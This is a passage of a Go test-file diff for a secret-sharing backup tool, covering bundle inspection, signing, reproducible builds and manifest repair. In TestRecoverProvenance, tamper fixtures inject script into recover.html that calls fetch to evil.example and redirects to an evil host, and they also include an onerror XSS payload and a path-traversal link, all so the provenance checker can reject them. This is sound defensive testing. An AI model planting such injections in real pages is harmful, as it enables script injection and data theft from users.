@@ -3,13 +3,18 @@ package integration_test
 import (
 	"archive/zip"
 	"bytes"
+	"crypto/ed25519"
 	cryptorand "crypto/rand"
 	"encoding/base64"
 	"encoding/json"
+	"errors"
+	"flag"
 	"fmt"
 	"io"
+	"net/url"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -403,12 +408,12 @@ func TestBundleGeneration(t *testing.T) {
 	manifestChecksum := core.HashBytes(manifestData)
 
 	// Mark project as sealed
-	p.Sealed = &project.Sealed{
+	p.AddSeal(project.Sealed{
 		At:               time.Now(),
 		ManifestChecksum: manifestChecksum,
 		VerificationHash: core.HashString(passphrase),
 		Shares:           shareInfos,
-	}
+	})
 	if err := p.Save(); err != nil {
 		t.Fatalf("saving project: %v", err)
 	}
@@ -617,12 +622,12 @@ func TestBundleRecovery(t *testing.T) {
 
 	// Mark project as sealed
 	manifestData, _ := os.ReadFile(p.ManifestAgePath())
-	p.Sealed = &project.Sealed{
+	p.AddSeal(project.Sealed{
 		At:               time.Now(),
 		ManifestChecksum: core.HashBytes(manifestData),
 		VerificationHash: core.HashString(passphrase),
 		Shares:           shareInfos,
-	}
+	})
 	p.Save()
 
 	// Generate bundles
@@ -797,12 +802,12 @@ func TestAnonymousBundleGeneration(t *testing.T) {
 
 	// Mark project as sealed
 	manifestData, _ := os.ReadFile(p.ManifestAgePath())
-	p.Sealed = &project.Sealed{
+	p.AddSeal(project.Sealed{
 		At:               time.Now(),
 		ManifestChecksum: core.HashBytes(manifestData),
 		VerificationHash: core.HashString(passphrase),
 		Shares:           shareInfos,
-	}
+	})
 	p.Save()
 
 	// Generate bundles
@@ -942,12 +947,12 @@ func TestAnonymousBundleRecovery(t *testing.T) {
 	}
 
 	manifestData, _ := os.ReadFile(p.ManifestAgePath())
-	p.Sealed = &project.Sealed{
+	p.AddSeal(project.Sealed{
 		At:               time.Now(),
 		ManifestChecksum: core.HashBytes(manifestData),
 		VerificationHash: core.HashString(passphrase),
 		Shares:           shareInfos,
-	}
+	})
 	p.Save()
 
 	// Generate bundles
@@ -1051,12 +1056,12 @@ func TestManifestEmbedding(t *testing.T) {
 		}
 
 		manifestData, _ := os.ReadFile(p.ManifestAgePath())
-		p.Sealed = &project.Sealed{
+		p.AddSeal(project.Sealed{
 			At:               time.Now(),
 			ManifestChecksum: core.HashBytes(manifestData),
 			VerificationHash: core.HashString(passphrase),
 			Shares:           shareInfos,
-		}
+		})
 		p.Save()
 
 		fakeWASM := []byte("fake-wasm")
@@ -1194,3 +1199,951 @@ func TestManifestEmbedding(t *testing.T) {
 		}
 	})
 }
+
+func TestInspect(t *testing.T) {
+	dir := t.TempDir()
+
+	var manifestBuf bytes.Buffer
+	if err := core.Encrypt(&manifestBuf, strings.NewReader("secret"), "test-passphrase"); err != nil {
+		t.Fatalf("encrypting: %v", err)
+	}
+	manifestData := manifestBuf.Bytes()
+
+	friends := []project.Friend{
+		{Name: "Alice", Contact: "alice@example.com", Language: "es"},
+		{Name: "Bob"},
+		{Name: "Carol"},
+	}
+	shares, err := core.Split([]byte("test-passphrase"), 3, 2)
+	if err != nil {
+		t.Fatalf("splitting: %v", err)
+	}
+	share := core.NewShare(2, 1, 3, 2, "Alice", shares[0])
+
+	personalization := &html.PersonalizationData{
+		Holder:      "Alice",
+		HolderShare: share.Encode(),
+		OtherFriends: []html.FriendInfo{
+			{Name: "Bob", ShareIndex: 2},
+			{Name: "Carol", ShareIndex: 3},
+		},
+		Threshold:   2,
+		Total:       3,
+		Language:    "es",
+		ManifestB64: base64.StdEncoding.EncodeToString(manifestData),
+	}
+	recoverHTML := html.GenerateRecoverHTML([]byte("fake-wasm"), "v1.2.3", "https://example.com", personalization)
+
+	bundlePath := filepath.Join(dir, "bundle-alice.zip")
+	err = bundle.GenerateBundle(bundle.BundleParams{
+		OutputPath:       bundlePath,
+		ProjectName:      "inspect-test",
+		Friend:           friends[0],
+		Share:            share,
+		OtherFriends:     friends[1:],
+		Threshold:        2,
+		Total:            3,
+		ManifestData:     manifestData,
+		ManifestChecksum: core.HashBytes(manifestData),
+		ManifestEmbedded: true,
+		RecoverHTML:      recoverHTML,
+		RecoverChecksum:  core.HashString(recoverHTML),
+		Version:          "v1.2.3",
+		GitHubReleaseURL: "https://example.com",
+		SealedAt:         time.Now(),
+		Language:         "es",
+	})
+	if err != nil {
+		t.Fatalf("generating bundle: %v", err)
+	}
+	bundleData, err := os.ReadFile(bundlePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	checkShare := func(t *testing.T, ins *bundle.Inspection) {
+		t.Helper()
+		if ins.Share == nil {
+			t.Fatal("expected a share")
+		}
+		if ins.Share.Index != 1 || ins.Share.Total != 3 || ins.Share.Threshold != 2 {
+			t.Errorf("share: got %d of %d (threshold %d)", ins.Share.Index, ins.Share.Total, ins.Share.Threshold)
+		}
+		if ins.ShareError != "" {
+			t.Errorf("unexpected share error: %s", ins.ShareError)
+		}
+	}
+
+	t.Run("bundle", func(t *testing.T) {
+		ins, err := bundle.Inspect(bundleData)
+		if err != nil {
+			t.Fatalf("Inspect: %v", err)
+		}
+		if ins.Kind != bundle.KindBundle {
+			t.Fatalf("kind: got %q", ins.Kind)
+		}
+		checkShare(t, ins)
+		if !ins.Verified {
+			t.Errorf("expected verified bundle, got %s", ins.VerifyError)
+		}
+		if ins.Readme == nil || ins.Readme.Language != "es" || ins.Readme.Version != "v1.2.3" || ins.Readme.Project != "inspect-test" {
+			t.Errorf("readme: got %+v", ins.Readme)
+		}
+		if ins.Readme != nil && strings.Join(ins.Readme.OtherHolders, ",") != "Bob,Carol" {
+			t.Errorf("other holders: got %v", ins.Readme.OtherHolders)
+		}
+		if ins.HTML == nil || !ins.HTML.Personalized || ins.HTML.Version != "v1.2.3" || ins.HTML.ManifestSize != len(manifestData) {
+			t.Errorf("recover.html: got %+v", ins.HTML)
+		}
+		if ins.Manifest == nil || !ins.Manifest.Embedded || ins.Manifest.Checksum != core.HashBytes(manifestData) {
+			t.Errorf("manifest: got %+v", ins.Manifest)
+		}
+	})
+
+	t.Run("share", func(t *testing.T) {
+		ins, err := bundle.Inspect([]byte(share.Encode()))
+		if err != nil {
+			t.Fatalf("Inspect: %v", err)
+		}
+		if ins.Kind != bundle.KindShare {
+			t.Errorf("kind: got %q", ins.Kind)
+		}
+		checkShare(t, ins)
+	})
+
+	t.Run("compact", func(t *testing.T) {
+		for _, input := range []string{
+			share.CompactEncode(),
+			"https://example.com/recover.html#share=" + url.QueryEscape(share.CompactEncode()),
+		} {
+			ins, err := bundle.Inspect([]byte(input + "\n"))
+			if err != nil {
+				t.Fatalf("Inspect(%q): %v", input, err)
+			}
+			if ins.Kind != bundle.KindCompact {
+				t.Errorf("kind: got %q", ins.Kind)
+			}
+			checkShare(t, ins)
+		}
+	})
+
+	t.Run("recover.html", func(t *testing.T) {
+		ins, err := bundle.Inspect([]byte(recoverHTML))
+		if err != nil {
+			t.Fatalf("Inspect: %v", err)
+		}
+		if ins.Kind != bundle.KindRecoverHTML {
+			t.Errorf("kind: got %q", ins.Kind)
+		}
+		checkShare(t, ins)
+		if ins.HTML.Holder != "Alice" || ins.HTML.Language != "es" || len(ins.HTML.OtherFriends) != 2 {
+			t.Errorf("recover.html: got %+v", ins.HTML)
+		}
+
+		generic := html.GenerateRecoverHTML([]byte("fake-wasm"), "v1.2.3", "https://example.com", nil)
+		ins, err = bundle.Inspect([]byte(generic))
+		if err != nil {
+			t.Fatalf("Inspect generic: %v", err)
+		}
+		if ins.HTML.Personalized || ins.Share != nil {
+			t.Errorf("generic recover.html: got %+v", ins.HTML)
+		}
+	})
+
+	t.Run("manifest", func(t *testing.T) {
+		ins, err := bundle.Inspect(manifestData)
+		if err != nil {
+			t.Fatalf("Inspect: %v", err)
+		}
+		if ins.Kind != bundle.KindManifest {
+			t.Errorf("kind: got %q", ins.Kind)
+		}
+		if len(ins.Manifest.Recipients) != 1 || ins.Manifest.Recipients[0] != "scrypt" || ins.Manifest.WorkFactor == 0 {
+			t.Errorf("manifest: got %+v", ins.Manifest)
+		}
+	})
+
+	t.Run("truncated readme", func(t *testing.T) {
+		// Cut off right after the other holders' heading
+		readme := share.Encode() + "\nMETADATA FOOTER\n\n" + translations.T("readme", "en", "other_holders")
+		if _, err := bundle.Inspect([]byte(readme)); err == nil || !strings.Contains(err.Error(), "truncated README") {
+			t.Errorf("expected a truncated README error, got %v", err)
+		}
+	})
+
+	t.Run("unknown", func(t *testing.T) {
+		if _, err := bundle.Inspect([]byte("hello world")); err == nil {
+			t.Error("expected error")
+		}
+	})
+}
+
+func TestPracticeBundles(t *testing.T) {
+	dir := t.TempDir()
+	p, err := project.New(filepath.Join(dir, "drill-project"), "drill-project", 2, []project.Friend{
+		{Name: "Alice", Language: "de"},
+		{Name: "Bob"},
+	})
+	if err != nil {
+		t.Fatalf("creating project: %v", err)
+	}
+
+	var manifestBuf bytes.Buffer
+	if err := core.Encrypt(&manifestBuf, strings.NewReader("practice"), "practice-passphrase"); err != nil {
+		t.Fatalf("encrypting: %v", err)
+	}
+	parts, err := core.Split([]byte("practice-passphrase"), 2, 2)
+	if err != nil {
+		t.Fatalf("splitting: %v", err)
+	}
+	shares := []*core.Share{
+		core.NewShare(2, 1, 2, 2, "Alice", parts[0]),
+		core.NewShare(2, 2, 2, 2, "Bob", parts[1]),
+	}
+
+	outDir := filepath.Join(dir, "practice")
+	cfg := bundle.Config{
+		Version:          "v1.0.0",
+		GitHubReleaseURL: "https://example.com",
+		WASMBytes:        []byte("fake-wasm"),
+		Practice:         true,
+	}
+	if _, err := bundle.GenerateBundles(p, shares, manifestBuf.Bytes(), outDir, time.Now(), cfg); err != nil {
+		t.Fatalf("GenerateBundles: %v", err)
+	}
+
+	bundlePath := filepath.Join(outDir, "practice-bundle-alice.zip")
+	if err := bundle.VerifyBundle(bundlePath); err != nil {
+		t.Fatalf("VerifyBundle: %v", err)
+	}
+
+	data, err := os.ReadFile(bundlePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ins, err := bundle.Inspect(data)
+	if err != nil {
+		t.Fatalf("Inspect: %v", err)
+	}
+	if !ins.Readme.Practice || !ins.HTML.Practice {
+		t.Errorf("expected practice markers, got readme=%v html=%v", ins.Readme.Practice, ins.HTML.Practice)
+	}
+
+	r, err := zip.OpenReader(bundlePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer r.Close()
+	for _, f := range r.File {
+		rc, _ := f.Open()
+		content, _ := io.ReadAll(rc)
+		rc.Close()
+		switch f.Name {
+		case translations.ReadmeFilename("de", ".txt"):
+			if !strings.Contains(string(content), translations.T("readme", "de", "practice_title")) {
+				t.Error("README.txt is missing the practice notice")
+			}
+		case "recover.html":
+			if !strings.Contains(string(content), `class="practice-banner"`) {
+				t.Error("recover.html is missing the practice banner")
+			}
+		}
+	}
+}
+
+func TestGenerateBundlesDestinations(t *testing.T) {
+	dir := t.TempDir()
+	p, err := project.New(filepath.Join(dir, "ephemeral"), "ephemeral", 2, []project.Friend{
+		{Name: "Alice"},
+		{Name: "Bob"},
+		{Name: "Camila"},
+	})
+	if err != nil {
+		t.Fatalf("creating project: %v", err)
+	}
+
+	var manifestBuf bytes.Buffer
+	if err := core.Encrypt(&manifestBuf, strings.NewReader("secret"), "passphrase"); err != nil {
+		t.Fatalf("encrypting: %v", err)
+	}
+	parts, err := core.Split([]byte("passphrase"), 3, 2)
+	if err != nil {
+		t.Fatalf("splitting: %v", err)
+	}
+
+	// Bob's share is skipped, Alice's bundle goes to her own directory
+	shares := []*core.Share{
+		core.NewShare(2, 1, 3, 2, "Alice", parts[0]),
+		nil,
+		core.NewShare(2, 3, 3, 2, "Camila", parts[2]),
+	}
+	outDir := filepath.Join(dir, "out")
+	usb := filepath.Join(dir, "usb-alice")
+	cfg := bundle.Config{
+		Version:          "v1.0.0",
+		GitHubReleaseURL: "https://example.com",
+		WASMBytes:        []byte("fake-wasm"),
+		Destinations:     map[string]string{"Alice": usb},
+	}
+	paths, err := bundle.GenerateBundles(p, shares, manifestBuf.Bytes(), outDir, time.Now(), cfg)
+	if err != nil {
+		t.Fatalf("GenerateBundles: %v", err)
+	}
+
+	want := []string{
+		filepath.Join(usb, "bundle-alice.zip"),
+		filepath.Join(outDir, "bundle-camila.zip"),
+	}
+	if strings.Join(paths, ",") != strings.Join(want, ",") {
+		t.Errorf("paths: got %v, want %v", paths, want)
+	}
+	for _, path := range want {
+		if err := bundle.VerifyBundle(path); err != nil {
+			t.Errorf("VerifyBundle(%s): %v", path, err)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(outDir, "bundle-bob.zip")); !os.IsNotExist(err) {
+		t.Error("bundle for Bob should not be generated")
+	}
+}
+
+// TestSealEngine runs the engine maker.html uses: in-memory files are
+// sealed and bundled, with progress reported along the way.
+func TestSealEngine(t *testing.T) {
+	p := &project.Project{
+		Name:      "engine",
+		Threshold: 2,
+		Language:  "es",
+		Friends:   []project.Friend{{Name: "Alice"}, {Name: "Bob", Language: "de"}, {Name: "Camila"}},
+	}
+
+	var events []string
+	progress := func(e bundle.Event) {
+		if e.Stage == bundle.StageBundle {
+			events = append(events, fmt.Sprintf("%s:%s:%d/%d", e.Stage, e.Friend, e.Done, e.Total))
+		} else {
+			events = append(events, string(e.Stage))
+		}
+	}
+
+	sealed, err := bundle.SealFiles(p, []manifest.File{
+		{Name: "notes.txt", Data: []byte("the key is under the mat")},
+		{Name: "manifest/photos/cat.txt", Data: []byte("meow")},
+	}, progress)
+	if err != nil {
+		t.Fatalf("SealFiles: %v", err)
+	}
+	var paths []string
+	for _, f := range sealed.Files {
+		paths = append(paths, f.Path)
+	}
+	if got := strings.Join(paths, ","); got != "notes.txt,photos/cat.txt" {
+		t.Errorf("sealed files: %s", got)
+	}
+
+	cfg := bundle.Config{
+		Version:          "v1.0.0",
+		GitHubReleaseURL: "https://example.com",
+		WASMBytes:        []byte("fake-wasm"),
+		NoEmbedManifest:  true,
+		Progress:         progress,
+	}
+	bundles := map[string][]byte{}
+	err = bundle.Build(p, sealed.Shares, sealed.Manifest, time.Now(), cfg, func(b bundle.Bundle) error {
+		bundles[b.FileName] = b.Data
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("Build: %v", err)
+	}
+
+	want := "archive,encrypt,split,verify,bundle:Alice:1/3,bundle:Bob:2/3,bundle:Camila:3/3"
+	if got := strings.Join(events, ","); got != want {
+		t.Errorf("events:\n got %s\nwant %s", got, want)
+	}
+
+	// NoEmbedManifest and languages apply to these bundles too
+	zr, err := zip.NewReader(bytes.NewReader(bundles["bundle-bob.zip"]), int64(len(bundles["bundle-bob.zip"])))
+	if err != nil {
+		t.Fatalf("reading Bob's bundle: %v", err)
+	}
+	var names []string
+	for _, f := range zr.File {
+		names = append(names, f.Name)
+	}
+	if got := strings.Join(names, ","); got != "LIESMICH.txt,LIESMICH.pdf,recover.html,MANIFEST.age,MANIFEST.age.par" {
+		t.Errorf("Bob's bundle contains %s", got)
+	}
+	if len(bundles) != 3 {
+		t.Errorf("got %d bundles, want 3", len(bundles))
+	}
+
+	// The shares recover the files
+	parts := [][]byte{sealed.Shares[0].Data, sealed.Shares[2].Data}
+	secret, err := core.Combine(parts)
+	if err != nil {
+		t.Fatalf("combining: %v", err)
+	}
+	var archive bytes.Buffer
+	if err := core.Decrypt(&archive, bytes.NewReader(sealed.Manifest), core.RecoverPassphrase(secret, 2)); err != nil {
+		t.Fatalf("decrypting: %v", err)
+	}
+	files, err := core.ExtractTarGz(archive.Bytes())
+	if err != nil {
+		t.Fatalf("extracting: %v", err)
+	}
+	if len(files) != 2 || files[0].Name != "manifest/notes.txt" {
+		t.Errorf("recovered %+v", files)
+	}
+}
+
+func TestBuildParallel(t *testing.T) {
+	var friends []project.Friend
+	for _, name := range []string{"Ana", "Ben", "Cleo", "Dov", "Eve", "Fay"} {
+		friends = append(friends, project.Friend{Name: name})
+	}
+	p := &project.Project{Name: "parallel", Threshold: 3, Friends: friends}
+	sealed, err := bundle.SealFiles(p, []manifest.File{{Name: "a.txt", Data: []byte("a")}}, nil)
+	if err != nil {
+		t.Fatalf("SealFiles: %v", err)
+	}
+	// Ben has no bundle this time
+	sealed.Shares[1] = nil
+
+	cfg := bundle.Config{
+		Version:          "v1.0.0",
+		GitHubReleaseURL: "https://example.com",
+		WASMBytes:        []byte("fake-wasm"),
+		Workers:          4,
+	}
+	var order []string
+	err = bundle.Build(p, sealed.Shares, sealed.Manifest, time.Now(), cfg, func(b bundle.Bundle) error {
+		order = append(order, b.Friend.Name)
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("Build: %v", err)
+	}
+	if got := strings.Join(order, ","); got != "Ana,Cleo,Dov,Eve,Fay" {
+		t.Errorf("bundles out of order: %s", got)
+	}
+
+	// Nothing more is written after out fails
+	order = nil
+	err = bundle.Build(p, sealed.Shares, sealed.Manifest, time.Now(), cfg, func(b bundle.Bundle) error {
+		order = append(order, b.Friend.Name)
+		if b.Friend.Name == "Dov" {
+			return fmt.Errorf("disk full")
+		}
+		return nil
+	})
+	if err == nil || !strings.Contains(err.Error(), "disk full") {
+		t.Errorf("expected disk full error, got %v", err)
+	}
+	if got := strings.Join(order, ","); got != "Ana,Cleo,Dov" {
+		t.Errorf("wrote %s", got)
+	}
+}
+
+func TestReproducibleBundles(t *testing.T) {
+	p := &project.Project{
+		Name:      "repro",
+		Threshold: 2,
+		Friends:   []project.Friend{{Name: "Alice"}, {Name: "Bob", Language: "fr"}},
+	}
+	sealed, err := bundle.SealFiles(p, []manifest.File{{Name: "a.txt", Data: []byte("a")}}, nil)
+	if err != nil {
+		t.Fatalf("SealFiles: %v", err)
+	}
+	created := time.Date(2026, 3, 1, 12, 0, 0, 0, time.FixedZone("CET", 3600))
+
+	build := func(reproducible bool) map[string]string {
+		cfg := bundle.Config{
+			Version:          "v1.0.0",
+			GitHubReleaseURL: "https://example.com",
+			WASMBytes:        []byte("fake-wasm"),
+			Reproducible:     reproducible,
+		}
+		sums := map[string]string{}
+		err := bundle.Build(p, sealed.Shares, sealed.Manifest, created, cfg, func(b bundle.Bundle) error {
+			sums[b.FileName] = core.HashBytes(b.Data)
+			return nil
+		})
+		if err != nil {
+			t.Fatalf("Build: %v", err)
+		}
+		return sums
+	}
+
+	first, second := build(true), build(true)
+	for name, sum := range first {
+		if second[name] != sum {
+			t.Errorf("%s differs between reproducible builds", name)
+		}
+	}
+	if first["bundle-alice.zip"] == first["bundle-bob.zip"] {
+		t.Error("different friends should get different bundles")
+	}
+
+	// Without it, each recover.html gets a random CSP nonce
+	if build(false)["bundle-alice.zip"] == build(false)["bundle-alice.zip"] {
+		t.Error("expected a random nonce outside reproducible mode")
+	}
+}
+
+func TestSignedBundles(t *testing.T) {
+	p := &project.Project{
+		Name:      "signed",
+		Threshold: 2,
+		Friends:   []project.Friend{{Name: "Alice"}, {Name: "Bob"}},
+	}
+	sealed, err := bundle.SealFiles(p, []manifest.File{{Name: "a.txt", Data: []byte("a")}}, nil)
+	if err != nil {
+		t.Fatalf("SealFiles: %v", err)
+	}
+	pub, priv, err := ed25519.GenerateKey(cryptorand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := bundle.Config{
+		Version:          "v1.0.0",
+		GitHubReleaseURL: "https://example.com",
+		WASMBytes:        []byte("fake-wasm"),
+		NoEmbedManifest:  true,
+		Signer:           priv,
+	}
+	var data []byte
+	err = bundle.Build(p, sealed.Shares, sealed.Manifest, time.Now(), cfg, func(b bundle.Bundle) error {
+		if data == nil {
+			data = b.Data
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("Build: %v", err)
+	}
+
+	fingerprint := core.KeyFingerprint(pub)
+	sig, err := bundle.VerifySigned(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatalf("VerifySigned: %v", err)
+	}
+	if sig == nil || sig.Fingerprint() != fingerprint {
+		t.Fatalf("expected a signature by %s, got %+v", fingerprint, sig)
+	}
+	if len(sig.Files) != 4 {
+		t.Errorf("expected README.txt, README.pdf, recover.html and MANIFEST.age to be signed, got %d files", len(sig.Files))
+	}
+	ins, err := bundle.Inspect(data)
+	if err != nil {
+		t.Fatalf("Inspect: %v", err)
+	}
+	if ins.SignedBy != fingerprint {
+		t.Errorf("Inspect SignedBy = %q, want %q", ins.SignedBy, fingerprint)
+	}
+
+	// Replace recover.html and fix up the README footer, as someone
+	// tampering with the bundle could: the checksums agree, the signature
+	// doesn't
+	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var files []bundle.ZipFile
+	for _, f := range zr.File {
+		rc, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		content, _ := io.ReadAll(rc)
+		rc.Close()
+		files = append(files, bundle.ZipFile{Name: f.Name, Content: content, ModTime: f.Modified})
+	}
+	evil := []byte("<html>evil</html>")
+	for i, f := range files {
+		if f.Name == "recover.html" {
+			old := core.HashBytes(f.Content)
+			files[i].Content = evil
+			for j, g := range files {
+				if strings.HasPrefix(g.Name, "README") && strings.HasSuffix(g.Name, ".txt") {
+					files[j].Content = []byte(strings.Replace(string(g.Content), old, core.HashBytes(evil), 1))
+				}
+			}
+		}
+	}
+	var tampered bytes.Buffer
+	if err := bundle.WriteZip(&tampered, files); err != nil {
+		t.Fatal(err)
+	}
+	_, err = bundle.VerifySigned(bytes.NewReader(tampered.Bytes()), int64(tampered.Len()))
+	if !errors.Is(err, core.ErrBadSignature) {
+		t.Errorf("expected ErrBadSignature for a tampered bundle, got %v", err)
+	}
+}
+
+func TestRecoverProvenance(t *testing.T) {
+	wasm := html.GetRecoverWASMBytes()
+	if len(wasm) == 0 {
+		t.Skip("recover.wasm not built")
+	}
+	page := html.NewRecoverPage(wasm, "v9.9.9", "https://github.com/eljojo/rememory/releases/tag/v9.9.9")
+	generic := []byte(page.Render(nil))
+	personalized := []byte(page.Render(&html.PersonalizationData{Holder: "Alice", Language: "es", Threshold: 2, Total: 3}))
+	practice := []byte(page.RenderNonce(&html.PersonalizationData{Holder: "Bob", Practice: true}, html.DeriveCSPNonce("seed")))
+
+	for name, content := range map[string][]byte{"generic": generic, "personalized": personalized, "practice": practice} {
+		p, err := html.CheckRecoverHTML(content)
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if !p.Official() || p.RecoverHashes != html.BuildHashes() {
+			t.Errorf("%s: expected it to match this build, got %s", name, p.Origin)
+		}
+		if p.Claimed != "v9.9.9" {
+			t.Errorf("%s: claimed version %q", name, p.Claimed)
+		}
+	}
+
+	// Code slipped in where only data is left out must not go unnoticed
+	nonce := regexp.MustCompile(`'nonce-([^']+)'`).FindStringSubmatch(string(personalized))[1]
+	tampered := map[string]string{
+		"app":             strings.Replace(string(generic), "works_offline", "works_offline_", 1),
+		"personalization": strings.Replace(string(generic), "window.PERSONALIZATION = null;", `window.PERSONALIZATION = {}; fetch("https://evil.example"); x = {};`, 1),
+		// Valid JSON, but the string closes the script and opens one with the page's nonce
+		"personalization script": strings.Replace(string(personalized), `"holder":"Alice"`, `"holder":"</script><script nonce=\"`+nonce+`\">location='https://evil/?'+1</script><script>"`, 1),
+		"banner":                 strings.Replace(string(practice), `data-i18n="practice_banner">`, `data-i18n="practice_banner"><img src=x onerror=alert(1)>`, 1),
+		"link":                   strings.Replace(string(generic), "releases/tag/v9.9.9", "releases/tag/v9.9.9/../../../../evil", 1),
+	}
+	for name, content := range tampered {
+		p, err := html.CheckRecoverHTML([]byte(content))
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if p.Official() {
+			t.Errorf("%s: tampered recover.html passed as %s", name, p.Origin)
+		}
+	}
+}
+
+var addRelease = flag.String("add-release", "", "add this build's recover.html hashes to html/releases.json as this version")
+
+// TestAddRelease records the recover.html this build makes as an official
+// release. make release runs it with the version being released:
+// go test -run TestAddRelease ./internal/ -args -add-release=vX.Y.Z
+func TestAddRelease(t *testing.T) {
+	if *addRelease == "" {
+		t.Skip("skipping release table update (use -add-release to add one)")
+	}
+	if len(html.GetRecoverWASMBytes()) == 0 {
+		t.Fatal("recover.wasm not built: run make wasm first")
+	}
+	releases := html.Releases()
+	for _, r := range releases {
+		if r.Version == *addRelease {
+			t.Fatalf("%s is already in releases.json", *addRelease)
+		}
+	}
+	releases = append(releases, html.Release{Version: *addRelease, RecoverHashes: html.BuildHashes()})
+	data, err := json.MarshalIndent(releases, "", "  ")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join("html", "releases.json"), append(data, '\n'), 0644); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("Added %s to html/releases.json. Commit it with the release.", *addRelease)
+}
+
+func TestReleaseTable(t *testing.T) {
+	version := regexp.MustCompile(`^v\d+\.\d+\.\d+$`)
+	hash := regexp.MustCompile(`^sha256:[0-9a-f]{64}$`)
+	seen := map[string]bool{}
+	for _, r := range html.Releases() {
+		if !version.MatchString(r.Version) || seen[r.Version] {
+			t.Errorf("bad or repeated version %q", r.Version)
+		}
+		seen[r.Version] = true
+		if !hash.MatchString(r.WASM) || !hash.MatchString(r.Page) {
+			t.Errorf("%s: bad hashes %+v", r.Version, r.RecoverHashes)
+		}
+	}
+}
+
+func TestExtractManifest(t *testing.T) {
+	dir := t.TempDir()
+	p, err := project.New(filepath.Join(dir, "extract"), "extract", 2, []project.Friend{
+		{Name: "Alice"},
+		{Name: "Bob"},
+	})
+	if err != nil {
+		t.Fatalf("creating project: %v", err)
+	}
+
+	var manifestBuf bytes.Buffer
+	if err := core.Encrypt(&manifestBuf, strings.NewReader("secret"), "passphrase"); err != nil {
+		t.Fatalf("encrypting: %v", err)
+	}
+	parts, err := core.Split([]byte("passphrase"), 2, 2)
+	if err != nil {
+		t.Fatalf("splitting: %v", err)
+	}
+	shares := []*core.Share{
+		core.NewShare(2, 1, 2, 2, "Alice", parts[0]),
+		core.NewShare(2, 2, 2, 2, "Bob", parts[1]),
+	}
+
+	// Embedded in recover.html, and as a separate MANIFEST.age
+	for _, noEmbed := range []bool{false, true} {
+		cfg := bundle.Config{
+			Version:          "v1.0.0",
+			GitHubReleaseURL: "https://example.com",
+			WASMBytes:        []byte("fake-wasm"),
+			NoEmbedManifest:  noEmbed,
+		}
+		outDir := filepath.Join(dir, fmt.Sprintf("out-%v", noEmbed))
+		paths, err := bundle.GenerateBundles(p, shares, manifestBuf.Bytes(), outDir, time.Now(), cfg)
+		if err != nil {
+			t.Fatalf("GenerateBundles: %v", err)
+		}
+		data, err := os.ReadFile(paths[0])
+		if err != nil {
+			t.Fatal(err)
+		}
+		got, err := bundle.ExtractManifest(data)
+		if err != nil {
+			t.Fatalf("ExtractManifest (no-embed=%v): %v", noEmbed, err)
+		}
+		if !bytes.Equal(got, manifestBuf.Bytes()) {
+			t.Errorf("no-embed=%v: extracted manifest differs", noEmbed)
+		}
+	}
+
+	if _, err := bundle.ExtractManifest([]byte("not a bundle")); err == nil {
+		t.Error("expected error for unrecognized data")
+	}
+}
+
+func TestManifestParity(t *testing.T) {
+	p := &project.Project{
+		Name:      "parity",
+		Threshold: 2,
+		Friends:   []project.Friend{{Name: "Alice"}, {Name: "Bob"}},
+	}
+	notes := make([]byte, 5000) // doesn't compress, so MANIFEST.age has several blocks
+	if _, err := cryptorand.Read(notes); err != nil {
+		t.Fatal(err)
+	}
+	sealed, err := bundle.SealFiles(p, []manifest.File{{Name: "notes.bin", Data: notes}}, nil)
+	if err != nil {
+		t.Fatalf("SealFiles: %v", err)
+	}
+	_, priv, err := ed25519.GenerateKey(cryptorand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := bundle.Config{
+		Version:          "v1.0.0",
+		GitHubReleaseURL: "https://example.com",
+		WASMBytes:        []byte("fake-wasm"),
+		NoEmbedManifest:  true,
+		Signer:           priv,
+	}
+	var data []byte
+	err = bundle.Build(p, sealed.Shares, sealed.Manifest, time.Now(), cfg, func(b bundle.Bundle) error {
+		if data == nil {
+			data = b.Data
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("Build: %v", err)
+	}
+
+	// Flip bits in MANIFEST.age, as years on a USB stick could
+	damage := func(offsets ...int) []byte {
+		zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var files []bundle.ZipFile
+		for _, f := range zr.File {
+			rc, err := f.Open()
+			if err != nil {
+				t.Fatal(err)
+			}
+			content, _ := io.ReadAll(rc)
+			rc.Close()
+			if f.Name == "MANIFEST.age" {
+				for _, o := range offsets {
+					content[o] ^= 0x08
+				}
+			}
+			files = append(files, bundle.ZipFile{Name: f.Name, Content: content, ModTime: f.Modified})
+		}
+		var buf bytes.Buffer
+		if err := bundle.WriteZip(&buf, files); err != nil {
+			t.Fatal(err)
+		}
+		return buf.Bytes()
+	}
+
+	damaged := damage(200)
+	if _, err := bundle.VerifySigned(bytes.NewReader(damaged), int64(len(damaged))); err != nil {
+		t.Fatalf("a repairable bundle should verify: %v", err)
+	}
+	got, repaired, err := bundle.RepairManifest(damaged)
+	if err != nil || repaired != 1 || !bytes.Equal(got, sealed.Manifest) {
+		t.Errorf("RepairManifest: repaired %d, err %v", repaired, err)
+	}
+	ins, err := bundle.Inspect(damaged)
+	if err != nil {
+		t.Fatalf("Inspect: %v", err)
+	}
+	if !ins.Verified || ins.ManifestRepaired != 1 || ins.Manifest.Checksum != sealed.ManifestChecksum {
+		t.Errorf("Inspect: verified %v, repaired %d, checksum %s", ins.Verified, ins.ManifestRepaired, ins.Manifest.Checksum)
+	}
+
+	// More damaged blocks than parity blocks can't be repaired
+	var offsets []int
